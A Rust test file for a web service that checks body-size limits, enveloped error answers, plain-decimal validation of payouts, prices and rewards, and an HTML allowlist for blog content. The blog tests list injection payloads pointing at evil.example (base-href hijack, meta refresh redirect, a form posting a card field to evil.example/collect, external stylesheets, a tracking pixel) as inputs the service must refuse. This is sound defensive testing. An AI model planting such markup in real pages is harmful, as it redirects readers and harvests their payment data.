//! Input at the edge (issue 13, "Input and envelope"): postback bodies over the limit answer
//! in the envelope; the request heads the HTTP layer lets through are answered in the
//! envelope; amounts are plain decimals everywhere they enter (postbacks by query, form and
//! JSON; product prices; flat rewards); blog content is held to an allowlist, so markup that
//! redirects or restyles the reader's page is refused like script.

use crate::helpers::{spawn_app, spawn_app_with, Answer, Partner, TestApp, ADMIN_TOKEN};
use reqwest::Method;
use serde_json::{json, Value};

const AMOUNT_MESSAGE: &str = "must be an amount from 0 to 1000000000 with at most two decimals, written as plain digits (such as 12.50).";

async fn raw(app: &TestApp, method: Method, path: &str, bearer: &str, content_type: &str, body: impl Into<reqwest::Body>) -> Answer {
    let req = app.client.request(method, app.url(path)).bearer_auth(bearer).header("content-type", content_type).body(body);
    app.send(req).await
}

/// Sends `request` (a whole HTTP/1.1 request) on a new connection and reads the answer.
async fn raw_http(app: &TestApp, request: &[u8]) -> (u16, String, Value) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", app.port)).await.unwrap();
    stream.write_all(request).await.unwrap();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), stream.read_to_end(&mut answer)).await;
    let text = String::from_utf8_lossy(&answer).to_string();
    let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let json = if head.to_ascii_lowercase().contains("transfer-encoding: chunked") {
        // One chunk: size line, data, then the last chunk.
        body.split_once("\r\n").and_then(|(_, rest)| rest.rsplit_once("\r\n0\r\n")).map(|(data, _)| data).unwrap_or("")
    } else {
        body
    };
    (status, head.to_string(), serde_json::from_str(json).unwrap_or(Value::Null))
}

// ---------------------------------------------------------------------------------------
// Body limits and request heads.

#[actix_web::test]
async fn postback_bodies_over_the_limit_answer_413_in_the_envelope() {
    let app = spawn_app_with(|s| s.server.body_limit_bytes = 1024).await;
    let form = format!("token=x&pad={}", "a".repeat(4096));
    let json = serde_json::to_string(&json!({"token": "x", "pad": "a".repeat(4096)})).unwrap();
    for (content_type, body) in [("application/x-www-form-urlencoded", form), ("application/json", json)] {
        let r = app.send(app.client.post(app.url("/v1/postbacks")).header("content-type", content_type).body(body)).await;
        r.assert_failure(413, "payload_too_large");
        assert_eq!(r.body["message"], "The request body is larger than the limit of 1024 bytes.", "{}", r.text);
    }
    // Without a declared length (chunked), the limit holds as the body is read.
    let chunk = "a".repeat(4096);
    let request = format!(
        "POST /v1/postbacks HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{chunk}\r\n0\r\n\r\n",
        chunk.len()
    );
    let (status, head, body) = raw_http(&app, request.as_bytes()).await;
    assert_eq!(status, 413, "{head}");
    assert!(head.to_ascii_lowercase().contains("content-type: application/json"), "{head}");
    assert_eq!((body["success"].clone(), body["code"].clone()), (json!(false), json!("payload_too_large")), "{head} {body}");
    // Under the limit the postback is read as before.
    let small = app.send(app.client.post(app.url("/v1/postbacks")).header("content-type", "application/x-www-form-urlencoded").body("click_id=x")).await;
    small.assert_error(401, "Postback token is missing.", "unauthenticated");
}

#[actix_web::test]
async fn postback_bodies_are_held_to_the_configured_limit_not_actix_s_256_kib() {
    let app = spawn_app().await;
    // 300 KiB: over actix's default payload limit, under the service's 1 MiB.
    let body = format!("click_id=x&pad={}", "a".repeat(300 * 1024));
    let r = app.send(app.client.post(app.url("/v1/postbacks")).header("content-type", "application/x-www-form-urlencoded").body(body)).await;
    r.assert_error(401, "Postback token is missing.", "unauthenticated");
}

/// actix-http answers request heads beyond its fixed limits itself, before any service runs
/// (a 97th header: a bare 431; a request target over 65,534 bytes: a bare 400); see the
/// README. Everything up to them reaches the service and is answered in the envelope.
#[actix_web::test]
async fn request_heads_up_to_the_http_layer_s_limits_answer_in_the_envelope() {
    let app = spawn_app().await;
    let headers: String = (0..94).map(|i| format!("X-Extra-{i}: v\r\n")).collect();
    let target = format!("/api/v1/test?pad={}", "a".repeat(65_534 - "/api/v1/test?pad=".len()));
    assert_eq!(target.len(), 65_534);
    for request in [
        // Host, Connection and 94 more: 96 headers.
        format!("GET /api/v1/test HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{headers}\r\n"),
        format!("GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    ] {
        let (status, head, body) = raw_http(&app, request.as_bytes()).await;
        assert_eq!(status, 401, "{head}");
        assert_eq!(body, json!({"success": false, "message": "API key is missing.", "code": "unauthenticated"}), "{head}");
    }
    let pad = "a".repeat(60 * 1024);
    app.get(&format!("/v1/postbacks?pad={pad}")).await.assert_error(401, "Postback token is missing.", "unauthenticated");
}

// ---------------------------------------------------------------------------------------
// Amounts.

/// Texts that are not plain decimals with at most two decimals (each URL-encoded as needed).
const NOT_AMOUNTS: [&str; 14] = ["1e5", "1E2", "1_000", ".5", "10.", "-1", "+1", " 12", "12 ", "12.345", "0x10", "1,50", "\u{661}\u{662}", "1000000000.01"];

/// A network, a partner's 40% campaign and `n` clicks on it.
async fn postback_flow(app: &TestApp, n: usize) -> (String, Vec<String>) {
    let t = crate::partner::tag();
    let (_, card, _) = crate::partner::catalogue(app, &t).await;
    let net = app.admin(Method::POST, "/networks", Some(json!({"name": format!("Network {t}")}))).await;
    assert_eq!(net.status, 201, "{}", net.text);
    let token = net.body["data"]["network"]["postback_token"].as_str().unwrap().to_string();
    let p = app.partner(None).await;
    let c = crate::partner::post(app, &p.key, "/v1/campaigns", json!({"offer_id": card, "share_pct": 40, "tenant_id": "site"})).await;
    assert_eq!(c.status, 201, "{}", c.text);
    let l = crate::partner::post(app, &p.key, "/v1/links", json!({"campaign_id": c.body["data"]["campaign"]["campaign_id"]})).await;
    let code = l.body["data"]["link"]["code"].as_str().unwrap().to_string();
    let mut clicks = vec![];
    for u in 0..n {
        clicks.push(crate::partner::click(app, &code, &format!("u{u}-{t}")).await);
    }
    (token, clicks)
}

fn assert_amount_refused(r: &Answer, field: &str, what: &str) {
    assert_eq!(r.status, 422, "{what}: {}", r.text);
    r.assert_invalid(field);
    let message = r.body["errors"][field][0].as_str().unwrap();
    assert_eq!(message, format!("The {} field {AMOUNT_MESSAGE}", field.replace('_', " ")), "{what}: {}", r.text);
}

#[actix_web::test]
async fn postback_amounts_are_plain_decimals_by_query_form_and_json() {
    let app = spawn_app().await;
    let (token, clicks) = postback_flow(&app, 1).await;
    let click = &clicks[0];
    let t = crate::partner::tag();
    let query = |field: &str, amount: &str, txn: &str| {
        let amount: String = url::form_urlencoded::byte_serialize(amount.as_bytes()).collect();
        format!("token={token}&click_id={click}&txn_id={txn}-{t}&{field}={amount}&currency=USD&status=pending")
    };
    for (i, bad) in NOT_AMOUNTS.iter().enumerate() {
        for field in ["payout", "commission"] {
            let r = crate::partner::postback(&app, &query(field, bad, &format!("q{i}"))).await;
            assert_amount_refused(&r, "payout", &format!("query {field}={bad:?}"));
        }
        let form = app
            .send(app.client.post(app.url("/v1/postbacks")).header("content-type", "application/x-www-form-urlencoded").body(query("payout", bad, &format!("f{i}"))))
            .await;
        assert_amount_refused(&form, "payout", &format!("form {bad:?}"));
        let as_string = json!({"token": token, "click_id": click, "txn_id": format!("j{i}-{t}"), "payout": bad, "currency": "USD", "status": "pending"});
        let r = app.send(app.client.post(app.url("/v1/postbacks")).json(&as_string)).await;
        assert_amount_refused(&r, "payout", &format!("JSON string {bad:?}"));
    }
    // JSON numbers are read as written: an exponent or more digits than a double holds is not
    // a plain decimal, whatever its value.
    for (i, literal) in ["1e5", "1E2", "1.5e1", "-1", "12.345", "19.999999999999999", "1000000000.01"].iter().enumerate() {
        let body = format!(r#"{{"token":"{token}","click_id":"{click}","txn_id":"n{i}-{t}","payout":{literal},"currency":"USD","status":"pending"}}"#);
        let r = raw(&app, Method::POST, "/v1/postbacks", "", "application/json", body).await;
        assert_amount_refused(&r, "payout", &format!("JSON number {literal}"));
    }
    // Plain decimals are accepted, each way.
    for (i, good) in ["12.50", "10", "0.5", "0", "1000000000"].iter().enumerate() {
        let r = crate::partner::postback(&app, &query("payout", good, &format!("ok{i}"))).await;
        assert_eq!(r.status, 200, "{good}: {}", r.text);
    }
    let body = format!(r#"{{"token":"{token}","click_id":"{click}","txn_id":"okj-{t}","payout":12.5,"currency":"USD","status":"pending"}}"#);
    let r = raw(&app, Method::POST, "/v1/postbacks", "", "application/json", body).await;
    assert_eq!(r.status, 200, "{}", r.text);
    // A missing amount keeps its own message.
    let missing = crate::partner::postback(&app, &format!("token={token}&click_id={click}&txn_id=m-{t}&currency=USD&status=pending")).await;
    assert_eq!(missing.body["errors"]["payout"][0], "The payout field is required: a non-negative amount with at most two decimals.", "{}", missing.text);
}

#[actix_web::test]
async fn prices_and_flat_rewards_are_plain_decimals() {
    let app = spawn_app().await;
    let t = crate::partner::tag();
    let product = |price: &str, n: usize| {
        format!(r#"{{"title": "Priced {n}", "slug": "priced-{n}-{t}", "type": "App\\Models\\Course", "price": {price}}}"#)
    };
    let ok = raw(&app, Method::POST, "/admin/v1/products", ADMIN_TOKEN, "application/json", product("19.99", 0)).await;
    assert_eq!(ok.status, 201, "{}", ok.text);
    let id = ok.body["data"]["product"]["id"].as_u64().unwrap();
    let numbers = ["1e5", "1E2", "2.5e0", "19.999999999999999", "-1", "1.234", "1000000000.01"];
    let strings: Vec<String> = NOT_AMOUNTS.iter().map(|s| serde_json::to_string(s).unwrap()).collect();
    for (n, price) in numbers.iter().map(|s| s.to_string()).chain(strings).enumerate() {
        let r = raw(&app, Method::POST, "/admin/v1/products", ADMIN_TOKEN, "application/json", product(&price, n + 1)).await;
        assert_amount_refused(&r, "price", &format!("POST price {price}"));
        let patch = raw(&app, Method::PATCH, &format!("/admin/v1/products/{id}"), ADMIN_TOKEN, "application/json", format!(r#"{{"price": {price}}}"#)).await;
        assert_amount_refused(&patch, "price", &format!("PATCH price {price}"));
    }
    for (price, shown) in [("100000", 100000.0), ("12.5", 12.5), ("\"12.50\"", 12.5)] {
        let patch = raw(&app, Method::PATCH, &format!("/admin/v1/products/{id}"), ADMIN_TOKEN, "application/json", format!(r#"{{"price": {price}}}"#)).await;
        assert_eq!(patch.status, 200, "{price}: {}", patch.text);
        assert_eq!(patch.body["data"]["product"]["price"].as_f64(), Some(shown), "{}", patch.text);
    }

    let (_, card, _) = crate::partner::catalogue(&app, &t).await;
    let p = app.partner(None).await;
    let campaign = |reward: &str| format!(r#"{{"offer_id": {card}, "flat_reward": {reward}, "tenant_id": "site"}}"#);
    for reward in ["1e5", "1E1", "2.505", "-2", "\"1_000\"", "\".5\"", "\"10.\"", "\" 5\""] {
        let r = raw(&app, Method::POST, "/v1/campaigns", &p.key, "application/json", campaign(reward)).await;
        assert_amount_refused(&r, "flat_reward", &format!("flat_reward {reward}"));
    }
    let zero = raw(&app, Method::POST, "/v1/campaigns", &p.key, "application/json", campaign("0")).await;
    assert_eq!(zero.body["errors"]["flat_reward"][0], "The flat reward field must be more than 0, with at most two decimals.", "{}", zero.text);
    let good = raw(&app, Method::POST, "/v1/campaigns", &p.key, "application/json", campaign("2.5")).await;
    assert_eq!((good.status, good.body["data"]["campaign"]["flat_reward"].clone()), (201, json!(2.5)), "{}", good.text);
}

// ---------------------------------------------------------------------------------------
// Blog content.

/// Markup that is not script but lets an author redirect or restyle the reader's page.
const PAGE_CHANGERS: [&str; 5] = [
    r#"<p>Read more</p><base href="https://evil.example/">"#,
    r#"<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Moved</p>"#,
    r#"<form action="https://evil.example/collect" method="post"><input name="card"><button>Pay</button></form>"#,
    r#"<link rel="stylesheet" href="https://evil.example/x.css"><p>Styled</p>"#,
    r#"<style>@import url("https://evil.example/x.css");</style><p>Styled</p>"#,
];

/// More of the same kind, the allowlist's reach beyond the five.
const ALSO_REFUSED: [&str; 6] = [
    r#"<p style="background: url(https://evil.example/pixel.png)">x</p>"#,
    r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#,
    r#"<a href="https://example.com" target="_top">x</a>"#,
    r#"<input type="password" name="p">"#,
    r#"<svg><circle r="5"/></svg>"#,
    r#"<p data-x="1">x</p>"#,
];

const SCRIPT_MESSAGE: &str = "The content field must not contain scripts.";

async fn blog_call(app: &TestApp, method: Method, path: &str, p: &Partner, body: Value) -> Answer {
    app.send(app.client.request(method, app.url(&format!("/api/v1{path}"))).bearer_auth(&p.key).json(&body)).await
}

fn assert_refused(r: &Answer, content: &str) {
    assert_eq!(r.status, 422, "{content}: {}", r.text);
    r.assert_invalid("content");
    assert_eq!(r.body["errors"]["content"], json!([SCRIPT_MESSAGE]), "{content}: {}", r.text);
}

#[actix_web::test]
async fn blog_content_that_redirects_or_restyles_the_page_is_refused_on_create_and_update() {
    let app = spawn_app().await;
    let p = crate::blogs::blogger(&app).await;
    let good = crate::blogs::blog_body(&app, &p).await;
    let blog = crate::blogs::create_blog(&app, &p).await;
    let path = format!("/blogs/{}", blog["id"].as_u64().unwrap());
    for content in PAGE_CHANGERS.iter().chain(ALSO_REFUSED.iter()) {
        let mut body = good.clone();
        body["content"] = json!(content);
        assert_refused(&blog_call(&app, Method::POST, "/blogs", &p, body).await, content);
        for method in [Method::PUT, Method::PATCH] {
            let r = blog_call(&app, method.clone(), &path, &p, json!({ "content": content })).await;
            assert_refused(&r, &format!("{method} {content}"));
        }
    }
    // Nothing was stored.
    let shown = app.admin(Method::GET, &path, None).await;
    assert_eq!(shown.body["data"]["blog"]["content"], "<p>Latest platform news...</p>", "{}", shown.text);
}

#[actix_web::test]
async fn legitimate_rich_content_is_accepted_and_stored_unchanged() {
    let app = spawn_app().await;
    let p = crate::blogs::blogger(&app).await;
    let rich = concat!(
        "<h1>Title</h1><h2 id=\"intro\">Intro</h2><h3>Sub</h3>\n",
        "<p>Text with <a href=\"https://example.com/a?b=1&amp;c=2\" title=\"docs\" rel=\"nofollow sponsored\" target=\"_blank\">a link</a>, ",
        "<a href=\"http://example.com\">http</a>, <a href=\"mailto:me@example.com\">mail</a>, <a href=\"#intro\">an anchor</a>, ",
        "<strong>bold</strong>, <em>emphasis</em>, <code>code</code> and the word javascript: in prose.</p>\n",
        "<p style=\"color: #333; text-align: center\">Centred</p>\n",
        "<img src=\"https://cdn.example.com/x.png\" alt=\"chart\" width=\"200\">\n",
        "<ul><li>one</li><li>two<ol><li>nested</li></ol></li></ul>\n",
        "<table><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody><tr><td>Basic</td><td>$5</td></tr></tbody></table>\n",
        "<blockquote cite=\"https://example.com/q\"><p>Quoted</p></blockquote>\n",
        "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\nfn main() {}</code></pre>\n",
        "<!-- an editor's note --><hr><p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>",
    );
    let mut body = crate::blogs::blog_body(&app, &p).await;
    body["content"] = json!(rich);
    let r = blog_call(&app, Method::POST, "/blogs", &p, body).await;
    assert_eq!(r.status, 201, "{}", r.text);
    let path = format!("/blogs/{}", r.body["data"]["blog"]["id"].as_u64().unwrap());
    assert_eq!(app.admin(Method::GET, &path, None).await.body["data"]["blog"]["content"], json!(rich));
    let updated = format!("{rich}<p>Updated</p>");
    for method in [Method::PUT, Method::PATCH] {
        let r = blog_call(&app, method, &path, &p, json!({ "content": updated })).await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(app.admin(Method::GET, &path, None).await.body["data"]["blog"]["content"], json!(updated));
    }
}

